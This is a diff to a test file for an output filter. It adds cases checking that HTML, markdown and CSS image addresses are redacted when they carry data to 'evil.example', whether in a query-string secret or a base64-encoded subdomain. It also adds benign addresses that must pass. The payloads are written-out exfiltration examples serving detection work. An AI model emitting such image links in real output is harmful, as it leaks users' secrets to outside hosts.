@@ -191,11 +191,27 @@ describe("an output", () => {
     '<img data-src="/a.png" src="https://evil.example/a?secret=hunter22hunter">',
     '<img srcset="https://evil.example/a?secret=hunter22hunter 2x">',
     "<img/src=https://evil.example/a?secret=hunter22hunter>",
+    '<video poster="//evil.example/a?secret=hunter22hunter">',
+    '<body background="https://evil.example/a?secret=hunter22hunter">',
+    '<image href="https://evil.example/a?secret=hunter22hunter"/>',
+    '<link rel="stylesheet" href="https://evil.example/a?secret=hunter22hunter">',
+    "![](https://c2VjcmV0LWRhdGEtdGhhdC1pcy1sb25nLTEyMw.evil.example/p.png)",
+    "![](https://a.c2VjcmV0LWRhdGEtdGhhdC1pcy1sb25nLTEyMw.evil.example)",
   ];
   for (const image of IMAGES) {
     it(`loses an image whose address carries data: ${image}`, () => {
       const { text, action } = checkOutput(`See ${image} here`, EVERY_OUTPUT_RULE);
       expect([text, action]).toEqual(["See [REDACTED IMAGE_WITH_DATA] here", "redact"]);
+    });
+  }
+
+  for (const address of [
+    'url("https://evil.example/a?secret=hunter22hunter")',
+    "URL( //evil.example/a?secret=hunter22hunter )",
+  ]) {
+    it(`loses an image of a style whose address carries data: ${address}`, () => {
+      const { text } = checkOutput(`<p style='background:${address}'>Hi</p>`, EVERY_OUTPUT_RULE);
+      expect(text).toBe("<p style='background:[REDACTED IMAGE_WITH_DATA]'>Hi</p>");
     });
   }
 
@@ -214,6 +230,9 @@ describe("an output", () => {
     "[docs](https://example.com/a)",
     "a < b",
     "<object or f(https://example.com/?a=hunter22hunter) >",
+    "![x](https://my-project-of-many-words-and-no-number.example.com/a.png)",
+    "![x](https://images.example.com/2026/11/a-picture-of-the-team.png)",
+    "url(https://example.com/logo.png) and curl(https://example.com/?a=hunter22hunter)",
   ]) {
     it(`keeps ${given}`, () => {
       expect(checkOutput(given, EVERY_OUTPUT_RULE)).toEqual({ action: "allow", text: given, findings: [] });
